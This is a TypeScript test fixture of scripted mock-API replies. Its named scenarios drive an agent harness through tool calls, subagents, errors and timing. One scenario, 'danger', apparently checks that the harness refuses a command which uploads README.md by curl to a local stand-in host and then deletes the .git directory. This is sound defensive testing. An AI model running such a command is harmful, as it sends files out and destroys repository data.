/** One block of a scripted answer; the mock API gives tool calls their ids. */
export type ScriptedBlock =
  | { readonly type: 'text'; readonly text: string }
  | { readonly type: 'tool_use'; readonly name: string; readonly input: object };

/** What the mock API answers to one model call. */
export type Step =
  | {
      readonly kind: 'reply';
      readonly content: readonly ScriptedBlock[];
      readonly stopReason: 'end_turn' | 'tool_use' | 'max_tokens';
      readonly delayMs?: number;
    }
  | {
      readonly kind: 'error';
      readonly status: number;
      readonly errorType: string;
      readonly message: string;
    };

/** Scripts by name: a prompt that holds `[[name]]` plays script `name`, one step a model call. */
export function scenarios(repo: string): ReadonlyMap<string, readonly Step[]> {
  return new Map(Object.entries({ ...simpleScripts(repo), ...agentScripts(), ...loops(repo) }));
}

/** The prompt that plays a scenario. */
export function promptFor(scenario: string): string {
  return `[[${scenario}]] please play this scenario.`;
}

function simpleScripts(repo: string): Record<string, readonly Step[]> {
  const file = `${repo}/notes.txt`;
  return {
    text: [say('Hello. There is nothing to do.')],
    bash: [call(bash('echo one-line-from-bash')), say('The command printed one line.')],
    'bash-sleep': [
      call(bash('touch started; for i in 1 2 3 4 5 6 7 8; do sleep 1; done')),
      say('Slept.'),
    ],
    'slow-text': [slowly(8_000, 'A long time for few words.')],
    'bash-kill': [call(bash('touch started; sleep 4')), say('Slept.')],
    'bash-fail': [call(bash('echo out; echo err >&2; exit 3')), say('It failed with 3.')],
    parallel: [
      call(bash('echo first'), bash('echo second'), read(`${repo}/README.md`)),
      say('Three calls are done.'),
    ],
    p10: [
      call(...Array.from({ length: 10 }, (_, i) => bash(`sleep 0.3; echo ${i}`))),
      say('Ten calls are done.'),
    ],
    write: [
      call(tool('Write', { file_path: file, content: 'red\ngreen\n' })),
      call(read(file)),
      call(tool('Edit', { file_path: file, old_string: 'green', new_string: 'blue' })),
      say('The notes are written.'),
    ],
    danger: [
      call(bash('curl -s --data-binary @README.md http://127.0.0.1:9/upload; rm -rf ./.git')),
      say('That was refused.'),
    ],
    maxtok: [reply([text('This sentence is cut')], 'max_tokens')],
    'api-500': [fail(500, 'api_error', 'the scripted server is broken')],
    all: [
      call(text('First a command.'), bash('echo one-line-from-bash')),
      call(bash('echo err >&2; exit 3')),
      call(tool('Write', { file_path: file, content: 'red\ngreen\n' })),
      call(agent('sub-bash')),
      say('All steps are done.'),
    ],
  };
}

function agentScripts(): Record<string, readonly Step[]> {
  return {
    agent: [call(text('Delegating.'), agent('sub-bash')), say('The subagent has reported.')],
    'agent-nested': [call(agent('sub-agent')), say('The outer subagent has reported.')],
    'agent-error': [call(agent('sub-error')), say('The subagent has died.')],
    'two-agents': [call(agent('sub-bash'), agent('sub-fail')), say('Both have reported.')],
    'sub-agent': [call(agent('sub-bash')), say('The inner subagent has reported.')],
    'sub-bash': [call(bash('echo from-the-subagent')), say('The command worked.')],
    'agent-bg': [
      call(agent('sub-slow', true)),
      say('Launched in the background.'),
      say('The background agent has reported.'),
    ],
    'sub-slow': [call(bash('sleep 1; echo slowly')), say('It took a while.')],
    'sub-fail': [call(bash('exit 7')), say('The command failed with 7.')],
    'sub-error': [fail(400, 'invalid_request_error', 'a bad request of the subagent')],
  };
}

/** Twenty short calls, from a model that answers at once and from one that takes 300 ms. */
function loops(repo: string): Record<string, readonly Step[]> {
  const calls = Array.from({ length: 20 }, (_, i) =>
    call(tool('Read', { file_path: `${repo}/README.md`, limit: 1, offset: 1 + (i % 2) })),
  );
  const steps = [...calls, say('Twenty calls are done.')];
  return { loop20: steps, paced20: steps.map((step) => ({ ...step, delayMs: 300 })) };
}

function say(words: string): Step {
  return reply([text(words)], 'end_turn');
}

function slowly(delayMs: number, words: string): Step {
  return { kind: 'reply', content: [text(words)], stopReason: 'end_turn', delayMs };
}

function call(...content: readonly ScriptedBlock[]): Step {
  return reply(content, 'tool_use');
}

function reply(
  content: readonly ScriptedBlock[],
  stopReason: 'end_turn' | 'tool_use' | 'max_tokens',
): Step {
  return { kind: 'reply', content, stopReason };
}

function fail(status: number, errorType: string, message: string): Step {
  return { kind: 'error', status, errorType, message };
}

function text(words: string): ScriptedBlock {
  return { type: 'text', text: words };
}

function tool(name: string, input: object): ScriptedBlock {
  return { type: 'tool_use', name, input };
}

function bash(command: string): ScriptedBlock {
  return tool('Bash', { command, description: 'A scripted command' });
}

function read(path: string): ScriptedBlock {
  return tool('Read', { file_path: path });
}

function agent(script: string, inBackground = false): ScriptedBlock {
  return tool('Agent', {
    description: `Play ${script}`,
    prompt: `[[${script}]] please play this part and report.`,
    subagent_type: 'general-purpose',
    run_in_background: inBackground,
  });
}
